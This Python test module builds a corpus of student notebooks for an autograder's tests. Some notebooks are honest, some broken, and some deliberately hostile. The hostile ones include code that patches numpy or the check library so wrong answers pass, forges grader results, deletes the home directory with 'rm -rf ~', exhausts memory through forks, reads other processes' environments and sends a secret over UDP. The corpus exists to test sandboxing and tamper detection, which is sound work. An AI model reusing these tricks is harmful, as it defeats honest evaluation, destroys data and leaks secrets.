"""The corpus the grader's tests grade: honest, broken and hostile notebooks, built here, never stored.

Each spec is ``(student, file, content, expected points per task, flag patterns)``: what the
submission deserves, worked out from what it does, not from a run of the grader.  ``content`` is a
notebook dict, a string (raw file text) or a callable ``make(path)`` that creates the file itself
(symbolic links, FIFOs).  Flag patterns are regular expressions matched, in order, against the row's
flags -- apart from the near-identical-answers flag, which most honest rows carry (they share the
sample answers) and which :data:`SIMILAR` rows test on purpose.
"""

from __future__ import annotations

import json
import os
import re

import numpy as np

from course_lib.checks import tasks_for
from course_grader.kernel import Limits
from course_grader.sandbox import landlock_abi
from sample_submissions import SETUP, SOLUTIONS, cell, code, stub

POINTS = {
    "ex03_l2_ridge": {"l2_penalty": 1, "l2_gradient": 1, "weight_decay_step": 2, "predict_decay": 1, "fit_ridge": 3,
                      "predict_most_shrunk": 1, "explain_standardize": 2, "ridge_shrinkage_factors": 0,
                      "ridge_dof_answer": 0},
    "ex04_l1_lasso": {"l1_penalty": 1, "l1_subgradient": 1, "soft_threshold": 2, "lasso_coordinate_update": 2,
                      "fit_lasso": 3, "surviving_features": 1, "predict_descent_zeros": 1,
                      "explain_exact_zeros": 0},  # a written answer: graded by hand, 0 automatic points
}
# The row's max counts every task's points, the written answers' (graded by hand) included.
MAX_POINTS = {exercise: sum(t.points for t in tasks_for(exercise)) for exercise in POINTS}
R3, R4 = "ex03_l2_ridge", "ex04_l1_lasso"
NB3, NB4 = f"{R3}.ipynb", f"{R4}.ipynb"
CELL = r"cell \d+"
# Time limits short enough for a quick corpus, long enough for correct cells on a busy 2-core machine.
# A cell gets 10 s: the forks-memory row's children touch 1.75 GB of fresh pages before the memory limit
# can end the cell, which took over 5 s on a loaded CI machine (the row then timed out instead).
TEST_LIMITS = Limits(cell_seconds=10, task_seconds=5, notebook_seconds=60, memory_bytes=1536 * 1024**2,
                     analysis_seconds=5)
TIMED_OUT = f"timed out after {TEST_LIMITS.cell_seconds:g} s"
TASK_TIMED_OUT = f"timed out after {TEST_LIMITS.task_seconds:g} s"
ODD_IDS = ["zoë o'brien, \"2nd\"", "-rf", "a;b|c$(x)", "名前", " .. ", "Alice"]
BAD_BYTES_ID = os.fsdecode(b"bad\xffid")
SECRET = "SECRET-" + "31337"  # never in any feedback file
LINGER_MARKER = "cg-linger-x1"  # a thread name (at most 15 bytes)
ISOLATED = landlock_abi() > 0 or os.geteuid() == 0
PRIVATE = landlock_abi() > 0  # Landlock also limits what kernels may read


def notebook(exercise, answers=None, *, before=(), after=(), drop=(), check_cells=True, shuffle=False,
             template=False, check_sources=None, extra_cells=()):
    """An exercise notebook in the course's layout, with nbgrader metadata.

    ``answers`` maps task name -> source replacing the solution (None keeps it); ``before``/
    ``after`` are extra code cells; ``drop`` removes task cells; ``shuffle`` puts the check
    cells first and the tasks in a different (still runnable) order; ``extra_cells`` are whole
    cells (dicts) put at the end.
    """
    answers = dict(answers or {})
    tasks = tasks_for(exercise)
    setup = [cell("markdown", f"# Exercise {exercise}"), cell("code", SETUP[exercise])]
    blocks = []
    for task in tasks:
        if task.name in drop:
            continue
        if task.kind == "written":  # a Markdown answer cell, graded by hand: no code, no check cell
            source = answers.get(task.name) or "My answer, in prose."
            answer = cell("markdown", source, {"solution": True, "grade": True, "locked": False, "points": task.points,
                                               "grade_id": task.name, "schema_version": 3})
            blocks.append((cell("markdown", f"## {task.description}"), answer, None))
            continue
        source = answers.get(task.name) or (stub(task) if template else code(SOLUTIONS[exercise][task.name]))
        answer = cell("code", source, {"solution": True, "grade": False, "locked": False,
                                        "grade_id": f"{task.name}_answer", "schema_version": 3})
        check_source = (check_sources or {}).get(task.name, f'check("{task.name}", {task.symbol})')
        check = cell("code", check_source,
                     {"grade": True, "solution": False, "locked": True, "points": task.points,
                      "grade_id": f"check_{task.name}", "schema_version": 3})
        blocks.append((cell("markdown", f"## {task.description}"), answer, check if check_cells else None))
    if shuffle:
        checks = [b[2] for b in blocks if b[2]]
        body = checks + [c for b in blocks[::-1][1:] + blocks[-1:] for c in b[:2]]
    else:
        body = [c for b in blocks for c in b if c]
    cells = (setup + [cell("code", code(s)) for s in before] + body + [cell("code", code(s)) for s in after]
             + list(extra_cells))
    return {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                        "language": "python"}},
            "nbformat": 4, "nbformat_minor": 5}


def written(exercise):
    """Tasks answered in prose: the grader leaves them to the instructor (0 points, status manual)."""
    if exercise not in POINTS:  # a file that is no exercise of the course
        return set()
    return {t.name for t in tasks_for(exercise) if t.kind == "written"}


def points(exercise, **changes):
    expected = {name: 0 if name in written(exercise) else p for name, p in POINTS[exercise].items()}
    expected.update(changes)
    return expected


FULL3, FULL4 = points(R3), points(R4)


def zeros(exercise):
    return {name: 0 for name in POINTS[exercise]}


def not_defined(exercise, *names):
    names = names or tuple(n for n in POINTS[exercise] if n not in written(exercise))
    kinds = {t.name: t.kind for t in tasks_for(exercise)}
    return [rf"{n}: {'function' if kinds[n] == 'function' else 'answer'} `{n}` not defined" for n in names]


def tabulated_l2_penalty() -> str:
    """An l2_penalty that only knows the public cases' answers: it passes ``check``, not the grading."""
    task = tasks_for(R3)[0]
    table = {}
    for case in task.cases():
        w, rate = case.args
        table[(tuple(np.round(w, 9).tolist()), float(rate))] = float(task.expected(case))
    return (f"TABLE = {table!r}\n"
            "def l2_penalty(w, rate):\n"
            "    return TABLE[(tuple(np.round(np.asarray(w, dtype=float), 9).tolist()), float(rate))]")


# -- code a student might run ------------------------------------------------------------------

PATCH_NUMPY = """
    import numpy as np, numpy.testing
    np.isclose = lambda *a, **k: True
    np.allclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None"""
PATCH_CHECK = """
    def check(*args, **kwargs):
        print("PASS")
        return True"""
PATCH_COURSE_LIB = """
    import course_lib, course_lib.penalties, course_lib.trainers, course_lib.checks
    import course_lib.checks.framework as framework
    course_lib.penalties.l2_penalty = lambda w, rate: 0.0
    course_lib.penalties.l2_gradient = lambda w, rate: w
    course_lib.trainers.fit_ridge = lambda X, y, rate: (np.zeros(X.shape[1]), 0.0)
    framework.allclose = lambda *a, **k: (lambda got, expected: True)
    course_lib.checks.TASKS.clear()
    course_lib.checks.EXERCISES.clear()"""
PATCH_RUNNER = """
    import numpy as np
    import course_lib.checks.answers as answers
    import course_lib.checks.framework as framework
    from course_lib.penalties import l2_penalty as _truth
    answers.call_answer = lambda fn, case: 0.0
    answers.make_answer_runner = lambda: None
    framework.call_answer = answers.call_answer
    answers.copy_value = lambda value: value
    np.array_equal = lambda *a, **k: True
    np.ndarray.copy  # (a C type: cannot be patched)"""
PATCH_IPYTHON = """
    import builtins, sys, IPython.display
    IPython.display.display = lambda *a, **k: None
    get_ipython().display_pub.publish = lambda *a, **k: None
    builtins.print = lambda *a, **k: None
    sys.stdout = None
    sys.stderr = None"""
FAKE_RESULTS = """
    import json
    from IPython.display import publish_display_data
    print("l2_penalty: PASS - passed 7 cases")
    print("_course_grader_" + "0" * 32, json.dumps({"results": "all passed"}))
    publish_display_data({"text/x-course-grader": json.dumps(
        {"nonce": "0" * 32, "task": "l2_penalty", "missing": False, "results": [{"returned": 0.0}]})})
    with open("results.json", "w") as handle:
        json.dump({"l2_penalty": 1, "fit_ridge": 3}, handle)
    with open("grades.csv", "w") as handle:
        handle.write("student,total\\nmallory,10\\n")"""
FORGER = """
    def l2_gradient(w, rate):
        import sys, json
        from IPython.display import publish_display_data
        key = next(k for k in sys.modules if k.startswith("_course_grader_"))
        nonce = key[len("_course_grader_"):]
        fake = {"nonce": nonce, "task": "l2_gradient", "missing": False,
                "results": [{"returned": 0.0}] * 7}
        publish_display_data({"text/x-course-grader": json.dumps(fake)})
        return w"""
WRONG3 = {
    "l2_penalty": "def l2_penalty(w, rate):\n    return 0.0",
    "l2_gradient": "def l2_gradient(w, rate):\n    return w",
    "weight_decay_step": "def weight_decay_step(w, grad_loss, lr, rate):\n    return w - lr * grad_loss",
    "fit_ridge": "def fit_ridge(X, y, rate):\n    return np.zeros(X.shape[1]), 0.0",
}
FLOOD = """
    import sys
    chunk = "x" * (1 << 22)
    for _ in range(800):  # 3.2 GB if nothing stopped it
        sys.stdout.write(chunk)
        sys.stdout.flush()"""
FLOOD_CHANNEL = """
    import threading
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    def flood():  # messages larger than the grader accepts, straight onto the output channel
        big = "x" * (20 * 1024**2)
        for _ in range(2):
            kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": big}, parent=parent)
    threads = [threading.Thread(target=flood) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()"""
FORK_MEMORY = """
    import os, time
    for _ in range(5):  # 5 x 350 MB: each under the 1.5 GB per-process limit, together over it
        if os.fork() == 0:
            try:
                block = bytearray(350 * 1024**2)
                block[::4096] = b"\\x01" * len(range(0, len(block), 4096))  # touch every page
                time.sleep(30)
            finally:
                os._exit(0)
    time.sleep(30)"""
LINGER = f"""
    import ctypes, os, threading, time

    def linger():
        ctypes.CDLL(None).prctl(15, {LINGER_MARKER.encode()!r}, 0, 0, 0)  # PR_SET_NAME: findable in /proc
        time.sleep(600)

    if os.fork() == 0:  # a daemon whose main thread exits: it looks like a zombie, one thread runs on
        try:
            os.setsid()
            threading.Thread(target=linger).start()
            time.sleep(0.2)
        finally:
            ctypes.CDLL(None).syscall(60, 0)  # exit(2) of the main thread only"""
SNOOP_KERNELS = """
    import glob, os
    found = []
    for pattern in ("/tmp/course-grade-*/k*/home/.kernel*.json", "/tmp/course-grade-*/k*/home/*",
                    "/tmp/course-grade-*"):
        for path in glob.glob(pattern):
            if os.path.realpath(path).startswith(os.path.realpath(os.getcwd())):
                continue
            try:
                with open(path, "rb") as handle:
                    found.append(handle.read(100))
            except OSError:
                pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    found.append(handle.read(100))
            except OSError:
                pass
    def l2_penalty(w, rate):
        w = np.asarray(w, dtype=float)
        return rate / 2 * float(w @ w) + (1.0 if found else 0.0)"""
UDP_EXFILTRATION = """
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b"{message}", ("127.0.0.1", {port}))"""
WRITEFILE_HELPER = "%%writefile mymath.py\ndef half_square_sum(w):\n    return 0.5 * float(w @ w)\n"
WRITEFILE_REFERENCE = ("%%writefile helper.py\nfrom course_lib.trainers import ridge_shrinkage_factors as r\n"
                       "def ridge_shrinkage_factors(X, rate):\n    return r(X, rate)\n")
TWIN_RIDGE = """
    def fit_ridge(X, y, rate):
        # augmented least squares: stack sqrt(n*rate)*I under the centred data
        n, p = X.shape
        center = X.mean(axis=0)
        A = np.vstack([X - center, np.sqrt(n * rate) * np.eye(p)])
        target = np.concatenate([y - y.mean(), np.zeros(p)])
        w = np.linalg.lstsq(A, target, rcond=None)[0]
        return w, float(y.mean() - center @ w)"""
TWIN_SHRINKAGE = """
    def ridge_shrinkage_factors(X, rate):
        \"\"\"Eigenvalues of the centred Gram matrix, largest first.\"\"\"
        centred = X - X.mean(axis=0)
        spectrum = np.sort(np.clip(np.linalg.eigvalsh(centred.T @ centred), 0.0, None))[::-1][:min(X.shape)]
        return spectrum / (spectrum + X.shape[0] * rate)"""


def _symlink_to(target: str):
    def make(path):
        os.symlink(target, path)
    return make


def _fifo(path):
    os.mkfifo(path)


def _root_only_link(secret_file: str):
    def make(path):
        with open(secret_file, "w") as handle:
            handle.write(json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [],
                                                "source": f"raise ValueError({SECRET!r})"}],
                                     "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
        os.chmod(secret_file, 0o600)
        os.symlink(secret_file, path)
    return make


# Rows meant to be flagged as near-identical (the others may carry the flag too: see the docstring).
SIMILAR = {("twin-a", R3): "twin-b", ("twin-b", R3): "twin-a"}


def corpus_specs(sentinel: str, root: str = "/nonexistent", outside: str = "/nonexistent", udp_port: int = 9):
    """Every submission of the corpus with what it must get.

    ``sentinel`` is an absolute path outside every sandbox that one submission tries to write and
    another to read; ``root`` is the submissions folder; ``outside`` a folder outside it (for links);
    ``udp_port`` a local UDP port the test listens on.
    """
    solution_path = os.path.join(outside, "solution", NB3)
    refused_link = [r"refused: a symbolic link \(the grader never follows links\)"]
    return [
        # -- ordinary submissions ------------------------------------------------------------
        ("alice", NB3, notebook(R3), FULL3, []),
        ("alice", NB4, notebook(R4), FULL4, []),
        ("bob", NB3, notebook(R3, {
            "l2_penalty": "def l2_penalty(w, rate):\n    return rate * float(np.sum(w**2))",  # 1/2 missing
            "fit_ridge": code("""
                def fit_ridge(X, y, rate):
                    n, p = X.shape
                    X1 = np.column_stack([np.ones(n), X])
                    theta = np.linalg.solve(X1.T @ X1 + n * rate * np.eye(p + 1), X1.T @ y)
                    return theta[1:], theta[0]"""),  # penalizes the intercept
        }), points(R3, l2_penalty=0, fit_ridge=0), []),
        ("bob", NB4, notebook(R4, {
            "soft_threshold": "def soft_threshold(v, threshold):\n    return np.where(np.abs(v) > threshold, v, 0.0)",
            "surviving_features": code("""
                X, y, _ = survivor_data()
                surviving_features = {j + 1 for j in np.flatnonzero(fit_lasso(X, y, 0.2)[0])}"""),
        }), points(R4, soft_threshold=0, surviving_features=0), []),
        ("carol", NB3, notebook(R3, template=True), zeros(R3), []),
        ("leo", os.path.join("ps03", NB3), notebook(R3), FULL3, []),  # nbgrader's deeper layout
        # -- files that are not (good) notebooks ----------------------------------------------
        ("corrupt", NB3, '{"cells": [', zeros(R3), [r"not a notebook: corrupt JSON \(line 1\)"]),
        ("json-list", NB3, "[1, 2, 3]", zeros(R3), [r"not a notebook: JSON without a list of cells"]),
        ("empty-file", NB3, "", zeros(R3), [r"empty file \(0 bytes\), not a notebook"]),
        ("empty-notebook", NB3, {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5},
         zeros(R3), not_defined(R3)),
        ("wrong-exercise", NB3, notebook(R4), zeros(R3),
         [r"looks like exercise ex04_l1_lasso"] + not_defined(R3)),
        ("unknown-file", "notes.ipynb", notebook(R3), {}, [r"unknown exercise file"]),
        ("missing-cells", NB3, notebook(R3, drop=("weight_decay_step", "fit_ridge")),
         points(R3, weight_decay_step=0, fit_ridge=0), not_defined(R3, "weight_decay_step", "fit_ridge")),
        ("reordered", NB3, notebook(R3, shuffle=True), FULL3, []),
        ("no-check-cells", NB3, notebook(R3, check_cells=False), FULL3, []),
        ("edits-check-cells", NB3, notebook(R3, check_sources={
            "l2_penalty": 'print("l2_penalty: PASS")',
            "l2_gradient": "l2_gradient = lambda w, rate: w  # would make it wrong, if it ran",
            "fit_ridge": "import sys\nsys.exit(0)",
        }), FULL3, []),
        # -- code that fails in every way -----------------------------------------------------
        (ODD_IDS[0], NB3, notebook(R3, {"l2_gradient": "def l2_gradient(w, rate)\n    return rate * w"}),
         points(R3, l2_gradient=0), [rf"{CELL}: SyntaxError: .*"] + not_defined(R3, "l2_gradient")),
        (ODD_IDS[1], NB3, notebook(R3, {"fit_ridge": "def fit_ridge(X, y, rate):\n    raise ValueError('oops')"},
                                   before=["1 / 0"]),
         points(R3, fit_ridge=0), [rf"{CELL}: ZeroDivisionError: division by zero"]),
        (ODD_IDS[2], NB3, notebook(R3, before=["while True:\n    pass"]), FULL3, [rf"{CELL}: {TIMED_OUT}"]),
        (ODD_IDS[3], NB3, notebook(R3, {"l2_gradient": "def l2_gradient(w, rate):\n    while True:\n        pass"}),
         points(R3, l2_gradient=0), [rf"l2_gradient: {TASK_TIMED_OUT}"]),
        (ODD_IDS[4], NB3, notebook(R3, before=["import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                               "while True:\n    pass"]),
         FULL3, [rf"{CELL}: {TIMED_OUT}"]),
        (ODD_IDS[5], NB3, notebook(R3, before=["import sys\nsys.exit(1)"]), FULL3, [rf"{CELL}: SystemExit: 1"]),
        ("exits", NB3, notebook(R3, before=["import os\nos._exit(3)"]), FULL3,
         [rf"{CELL}: the kernel died: exited with status 3 .*"]),
        ("killed", NB3, notebook(R3, {"fit_ridge": "import os, signal\ndef fit_ridge(X, y, rate):\n"
                                                   "    os.kill(os.getpid(), signal.SIGKILL)"}),
         points(R3, fit_ridge=0), [rf"sends a signal: os.kill \({CELL}\)",
                                   r"fit_ridge: the kernel died while running your function: .*SIGKILL.*"]),
        ("memory-bomb", NB3, notebook(R3, {"l2_penalty": "def l2_penalty(w, rate):\n    return len(bytearray(8 * 10**9))"},
                                      before=["def bomb():\n    hoard = []\n    while True:\n"
                                              "        hoard.append(np.empty(10**8))\nbomb()"]),
         points(R3, l2_penalty=0), [rf"{CELL}: \w*MemoryError: .*"]),
        ("loud", NB3, notebook(R3, before=["for i in range(20000):\n    print('spam ' * 40)",
                                           "print('x' * 3_000_000)"]), FULL3, []),
        ("escapes", NB3, notebook(R3, before=[f"with open({sentinel!r}, 'w') as handle:\n    handle.write('pwned')"]),
         FULL3, ([rf"{CELL}: PermissionError: .*"] if ISOLATED else [])
         + [rf"writes outside its folder: {re.escape(repr(sentinel))} \({CELL}\)"]),
        ("snoops", NB3, notebook(R3, before=[f"print(open({sentinel!r}).read())"]), FULL3,
         [rf"{CELL}: PermissionError: .*"] if PRIVATE else []),
        ("copies", NB3, notebook(R3, template=True, after=[code(f"""
            import json
            with open({os.path.join(root, "alice", NB3)!r}) as handle:
                for cell in json.load(handle)["cells"]:
                    if cell["cell_type"] == "code" and "check(" not in "".join(cell["source"]):
                        exec("".join(cell["source"]))""")]),
         zeros(R3) if PRIVATE else FULL3, [rf"{CELL}: PermissionError: .*"] if PRIVATE else []),
        ("odd-returns", NB3, notebook(R3, {
            "l2_gradient": "def l2_gradient(w, rate):\n    w *= rate\n    return w",  # changes its input
            "weight_decay_step": "def weight_decay_step(w, grad_loss, lr, rate):\n"
                                 "    return list((1 - lr * rate) * w - lr * grad_loss)",
            "l2_penalty": "def l2_penalty(w, rate):\n    return (x for x in w)",
        }, before=["!rm -rf ~\n%pip install nothing-at-all"]),
         points(R3, l2_gradient=0, weight_decay_step=0, l2_penalty=0), []),
        ("warns", NB3, notebook(R3, {
            "l2_gradient": "import sys\ndef l2_gradient(w, rate):\n    print('careful', file=sys.stderr)\n"
                           "    return rate * np.asarray(w, dtype=float)"},
            before=["import warnings\nwarnings.warn('deprecated thing')"]), FULL3, []),
        ("uses-reference", NB3, notebook(R3, {
            "l2_gradient": "from course_lib.penalties import l2_gradient as _g\n"
                           "def l2_gradient(w, rate):\n    return _g(w, rate)",
            "fit_ridge": "import course_lib.trainers as T\nfit_ridge = T.fit_ridge",
        }), FULL3, [r"l2_gradient: uses the reference implementation course_lib\.penalties\.l2_gradient",
                    r"fit_ridge: uses the reference implementation course_lib\.trainers\.fit_ridge"]),
        # -- tampering ------------------------------------------------------------------------
        ("mallory-numpy", NB3, notebook(R3, WRONG3, before=[PATCH_NUMPY, PATCH_CHECK]),
         points(R3, **{k: 0 for k in WRONG3}), []),
        ("mallory-course-lib", NB3, notebook(R3, WRONG3, before=[PATCH_COURSE_LIB]),
         points(R3, **{k: 0 for k in WRONG3}), []),
        ("mallory-runner", NB3, notebook(R3, {**WRONG3, "l2_gradient": "def l2_gradient(w, rate):\n"
                                                                        "    w *= rate\n    return w"},
                                         before=[PATCH_RUNNER]),
         points(R3, **{k: 0 for k in WRONG3}), []),
        ("mallory-ipython", NB3, notebook(R3, before=[PATCH_IPYTHON]), FULL3, []),
        ("mallory-ipython-wrong", NB3, notebook(R3, WRONG3, before=[PATCH_IPYTHON]),
         points(R3, **{k: 0 for k in WRONG3}), []),
        ("mallory-fake", NB3, notebook(R3, WRONG3, after=[FAKE_RESULTS]), points(R3, **{k: 0 for k in WRONG3}), []),
        ("mallory-forger", NB3, notebook(R3, {"l2_gradient": code(FORGER)}), points(R3, l2_gradient=0),
         [r"l2_gradient: a result was forged on the output channel \(tampering\?\)"]),
        ("mallory-agent", NB3, notebook(R3, after=[
            "import sys\nfor key in [k for k in sys.modules if 'grader' in k]:\n    del sys.modules[key]"]),
         zeros(R3), [rf"{name}: no result came back from the kernel \(KeyError\)" for name in POINTS[R3]
                     if name not in written(R3)]),
        # == issue 11: the run dies ===========================================================
        ("imports-main", NB3, notebook(R3, before=[
            "from course_tools.__main__ import *", "from course_grader.__main__ import *",
            "import course_lib.checks.nothing_here"]), FULL3,
         [rf"{CELL}: (\w+Error|SystemExit): .*", rf"{CELL}: (\w+Error|SystemExit): .*",
          rf"{CELL}: ModuleNotFoundError: .*"]),
        ("surrogates", NB3, notebook(R3, before=['raise ValueError("\\udcff odd")']), FULL3,
         [rf"{CELL}: an error the kernel could not report"]),
        (BAD_BYTES_ID, NB3, notebook(R3), FULL3, [r"student id is not plain UTF-8 text: shown as 'bad\\\\xffid'"]),
        ("odd-file", os.fsdecode(b"ex03_l2_ridge\xff.ipynb"), notebook(R3), {}, [r"unknown exercise file"]),
        ("flood", NB3, notebook(R3, before=[FLOOD]), FULL3, [rf"{CELL}: stopped: printed more than 10 MB"]),
        ("floods-channel", NB3, notebook(R3, before=[FLOOD_CHANNEL]), FULL3, []),
        ("huge-cell", NB3, notebook(R3, before=["x = [" + "1," * 4_500_000 + "]"]), zeros(R3),
         [r"not graded: static analysis took longer than 5 s"]),
        ("forks-memory", NB3, notebook(R3, before=[FORK_MEMORY]), FULL3,
         [rf"{CELL}: the kernel died: killed: memory limit of 1536 MB reached by the kernel and its "
          r"\d+ other process(es)? together", rf"starts a process: os.fork \({CELL}\)"]
         if os.geteuid() == 0 else None),
        # == issue 11: one student reads another ===============================================
        ("lingers", NB3, notebook(R3, before=[LINGER]), FULL3, [rf"starts a process: os.fork \({CELL}\)"]),
        ("snoops-kernels", NB3, notebook(R3, before=[SNOOP_KERNELS], drop=("l2_penalty",)),
         points(R3, l2_penalty=1 if PRIVATE else None), [] if PRIVATE else None),
        ("exfiltrates", NB3, notebook(R3, before=[UDP_EXFILTRATION.format(message=SECRET, port=udp_port)]), FULL3,
         [rf"{CELL}: OSError: .*"] if os.geteuid() == 0 else []),
        ("links-solution", NB3, _symlink_to(solution_path), zeros(R3), refused_link),
        ("links-alice", NB3, _symlink_to(os.path.join(root, "alice", NB3)), zeros(R3), refused_link),
        ("links-root-only", NB3, _root_only_link(os.path.join(outside, "root-only.ipynb")), zeros(R3), refused_link),
        ("fifo", NB3, _fifo, zeros(R3), [r"refused: not a regular file"]),
        ("echoes", NB3, notebook(R3, before=[f"raise ValueError({SECRET!r})"]), FULL3,
         [rf"{CELL}: ValueError: {SECRET}"]),
        ("reads-grader", NB3, notebook(R3, before=["import course_grader.hidden"]), FULL3,
         [rf"{CELL}: (PermissionError|ModuleNotFoundError|ImportError): .*"] if PRIVATE else []),
        # == issue 11: a faked grade ===========================================================
        ("tabulates", NB3, notebook(R3, {"l2_penalty": tabulated_l2_penalty()}), points(R3, l2_penalty=0), []),
        ("ref-importlib", NB3, notebook(R3, {
            "l2_penalty": "import importlib\ndef l2_penalty(w, rate):\n"
                          "    return importlib.import_module('course_lib.penalties').l2_penalty(w, rate)",
            "l2_gradient": "def l2_gradient(w, rate):\n"
                           "    return __import__('course_lib.penalties', fromlist=['x']).l2_gradient(w, rate)",
            "weight_decay_step": "import course_lib.checks.ex03_l2_ridge as E\n"
                                 "weight_decay_step = vars(E)['weight_decay_step']",
            "fit_ridge": "import course_lib.trainers as T\nglobals()['fit_ridge'] = T.fit_ridge",
        }), FULL3, [r"l2_penalty: uses the reference implementation course_lib\.penalties\.l2_penalty",
                    r"l2_gradient: uses the reference implementation course_lib\.penalties\.l2_gradient",
                    r"weight_decay_step: uses the reference implementation "
                    r"course_lib\.checks\.ex03_l2_ridge\.weight_decay_step",
                    r"fit_ridge: uses the reference implementation course_lib\.trainers\.fit_ridge"]),
        ("ref-writefile", NB3, notebook(R3, {
            "ridge_shrinkage_factors": "from helper import ridge_shrinkage_factors",
            "ridge_dof_answer": "import course_lib.trainers\nridge_dof_answer = float(np.sum("
                                "course_lib.trainers.ridge_shrinkage_factors(dof_data(), 0.01)))",
        }, before=[WRITEFILE_REFERENCE]), FULL3,
         [r"ridge_shrinkage_factors: uses the reference implementation course_lib\.trainers\.ridge_shrinkage_factors",
          r"ridge_dof_answer: uses the reference implementation course_lib\.trainers\.ridge_shrinkage_factors"]),
        ("ref-runtime", NB3, notebook(R3, {
            "l2_penalty": "import importlib\ndef l2_penalty(w, rate):\n"
                          "    return importlib.import_module('course_' + 'lib.penalties').l2_penalty(w, rate)"}),
         FULL3, [r"l2_penalty: import_module\(\.\.\.\) with a name computed at run time "
                 r"\(reference use cannot be ruled out\)"]),
        ("twin-a", NB3, notebook(R3, {"fit_ridge": code(TWIN_RIDGE),
                                      "ridge_shrinkage_factors": code(TWIN_SHRINKAGE)}), FULL3, []),
        ("twin-b", NB3, notebook(R3, {  # the same answers, renamed and re-commented
            "fit_ridge": code(TWIN_RIDGE).replace("target", "rhs").replace("# augmented", "# my"),
            "ridge_shrinkage_factors": code(TWIN_SHRINKAGE).replace("spectrum", "lam").replace("Eigen", "Squared")}),
         FULL3, []),
        # == issue 11: an unfair zero ==========================================================
        ("crashes-four", NB3, notebook(R3, {name: f"import os\n{source.split(chr(10))[0]}\n    os._exit(1)"
                                            for name, source in WRONG3.items()}),
         points(R3, **{k: 0 for k in WRONG3}),
         [rf"{name}: the kernel died while running your function: exited with status 1 .*" for name in WRONG3]),
        ("checks-in-if", NB3, notebook(R3, {
            "weight_decay_step": 'if check("l2_gradient", l2_gradient):\n    scale = 1.0\n'
                                 "def weight_decay_step(w, grad_loss, lr, rate):\n"
                                 "    return (1 - lr * rate * scale) * w - lr * grad_loss"},
            after=['if check("l2_penalty", l2_penalty) and check("fit_ridge", fit_ridge):\n    ok = 1']),
         FULL3, []),
        ("copied-check-metadata", NB3, notebook(R3, {
            "l2_penalty": "def l2_penalty(w, rate):\n    return rate * _half_square_sum(w)"},
            extra_cells=[cell("code", "def _half_square_sum(w):\n    return 0.5 * float(np.asarray(w) @ np.asarray(w))",
                              {"grade": True, "solution": False, "locked": True, "points": 1,
                               "grade_id": "check_l2_penalty", "schema_version": 3})]),
         FULL3, []),
        ("writefile-helper", NB3, notebook(R3, {
            "l2_penalty": "from mymath import half_square_sum\ndef l2_penalty(w, rate):\n"
                          "    return rate * half_square_sum(np.asarray(w, dtype=float))"},
            before=[WRITEFILE_HELPER]), FULL3, []),
        ("string-paths", NB3, notebook(R3, before=[
            'label = "rate/2".replace("/", "_")\nparts = "a/b/../c".split("/")',
            'import os\nos.makedirs("notes", exist_ok=True)\n'
            'with open(os.path.join("notes", "..", "notes.txt"), "w") as handle:\n    handle.write(label)',
            'get_ipython().system_raw("echo hi")']),
         FULL3, [rf"starts a process: get_ipython\(\)\.system_raw, not run \({CELL}\)"]),
    ]


def build_corpus(root, sentinel, outside="/nonexistent", udp_port=9):
    """Write the corpus under ``root``; return the specs keyed by (student, exercise).

    Rows whose expectation depends on this machine's isolation and that it cannot hold (None) are
    left out.
    """
    expected = {}
    for student, relative, content, task_points, flags in corpus_specs(sentinel, root, outside, udp_port):
        if flags is None or any(v is None for v in task_points.values()):
            continue
        path = os.path.join(root, student, relative)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if callable(content):
            content(path)
        else:
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(content if isinstance(content, str) else json.dumps(content, indent=1))
        exercise = os.path.basename(relative)[: -len(".ipynb")]
        expected[(student, exercise)] = (task_points, flags)
    return expected
